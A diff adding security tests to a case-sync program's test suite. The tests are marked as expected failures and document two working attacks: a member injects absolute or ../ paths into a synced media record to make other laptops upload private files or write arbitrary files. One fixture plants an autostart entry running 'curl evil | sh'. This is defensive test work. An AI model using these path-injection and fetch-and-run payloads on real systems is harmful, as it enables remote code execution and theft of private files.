@@ -484,3 +484,68 @@ def test_the_store_cannot_turn_a_family_copy_into_the_original(tmp_path, store):
         assert case_id in report.cases[0].error
         return
     assert _export(b, case_id, reel, tmp_path / "family.mp4") != ORIGINAL
+
+
+# --- a member's media record names a path outside the case ---------------------------------
+
+
+@pytest.fixture
+def with_session(pair):
+    a, b, case_id = pair
+    with a.session() as (_, pat):
+        case = open_for_sync(pat, case_id)
+        session_id = case.sessions.new(SessionKind.RECORDING, date(2026, 11, 2))
+        case.save()
+    _ok(a)
+    _ok(b)
+    return a, b, case_id, session_id
+
+
+def _slip_media_row(laptop, case_id, session_id, media_id, file):
+    """The supervisor's patched program: a media row whose ``file`` is any path (synced)."""
+    with laptop.session() as (_, sam):
+        case = open_for_sync(sam, case_id)
+        case.db.execute(
+            "INSERT INTO media VALUES (?, ?, 'recording', ?, '{}', 'sam', '2026-11-02')",
+            (media_id, session_id, file),
+        )
+        case.save()
+        return CaseNames.of(case.identity).media(media_id)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="attack works: media.file is a synced field used as case.folder / file; an absolute "
+    "(or ../) path makes every member's next sync upload that file of their laptop, as it is "
+    "(plaintext), where the supervisor reads it with the store's keys",
+)
+def test_a_member_cannot_make_another_laptop_upload_a_file_outside_the_case(
+    with_session, store, tmp_path
+):
+    a, b, case_id, session_id = with_session
+    secret = tmp_path / "pat-home" / "private-notes.txt"  # any file pat's account can read
+    secret.parent.mkdir()
+    secret.write_bytes(b"PAT'S PRIVATE NOTES, NEVER SHARED")
+    name = _slip_media_row(b, case_id, session_id, "m-exfil", str(secret))
+    _sync(b)
+    _sync(a)
+    stolen = store.get(name) if store.head(name) else b""
+    assert b"PRIVATE NOTES" not in stolen
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="attack works: _pull_media writes the store object to case.folder / media.file when "
+    "it is missing; a member's op sets file to an absolute (or ../) path and uploads any bytes "
+    "under the media's name: every other laptop writes that file where the member chose",
+)
+def test_a_member_cannot_make_another_laptop_write_a_file_outside_the_case(
+    with_session, store, tmp_path
+):
+    a, b, case_id, session_id = with_session
+    target = tmp_path / "pat-home" / ".config" / "autostart" / "evil.desktop"
+    name = _slip_media_row(b, case_id, session_id, "m-drop", str(target))
+    store.put_new(name, b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n")
+    _sync(b)
+    _sync(a)
+    assert not target.exists()
